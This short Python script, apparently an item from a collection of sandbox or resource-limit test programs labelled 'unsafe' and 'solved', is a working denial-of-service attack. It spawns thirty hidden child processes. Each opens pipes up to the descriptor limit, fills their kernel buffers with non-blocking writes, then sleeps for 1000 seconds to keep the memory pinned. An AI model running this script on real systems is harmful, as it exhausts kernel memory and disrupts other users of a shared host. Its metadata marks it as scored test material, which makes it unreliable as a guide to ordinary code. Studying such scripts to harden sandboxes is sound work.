# title: Memory held in the pipes of thirty processes, which the kernel keeps small
# base: solved
# score: 10
# stock: unsafe
import subprocess
import sys
import time

code = """
import os, time
pipes = []
try:
    while True:
        pipes.append(os.pipe())
        os.set_blocking(pipes[-1][1], False)
        try:
            while True:
                os.write(pipes[-1][1], b"x" * 65_536)
        except BlockingIOError:
            pass
except OSError:
    pass
time.sleep(1000)
"""
for _ in range(30):
    subprocess.Popen([sys.executable, "-ISc", code], stderr=subprocess.DEVNULL)
time.sleep(1)
